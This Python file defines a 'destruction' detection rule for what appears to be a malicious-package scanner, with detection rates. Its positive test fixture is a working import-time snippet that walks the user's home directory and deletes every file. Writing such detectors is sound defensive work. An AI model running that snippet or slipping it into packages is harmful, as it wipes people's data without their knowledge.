"""It destroys what somebody has."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, Hit, Rule
from veln_hook.source import vocabulary as v
from veln_hook.source.taints import EVERYTHING

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for place in view.of(v.DESTROY, v.REMOVE, by_itself=True):
        if place.kind == v.DESTROY or EVERYTHING in place.taints or f"~{EVERYTHING}" in place.taints:
            what = "everything that it finds" if place.detail == "files" else place.detail
            yield Hit(f"it removes or overwrites {what} by itself", (place,))


RULE = Rule(
    name="destruction",
    description=(
        "Code that runs by itself removes or overwrites a home, a disk, or each file that it finds below a "
        "home or a root, by functions or by commands."
    ),
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n"
            "    for name in names:\n        os.remove(os.path.join(top, name))\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import os, shutil\n\ndef clear():\n"
            "    shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'acme'))\n\nclear()\n"
        )
    },
    rates="1 of 990 malicious clusters, none of 706 harmless archives",
)
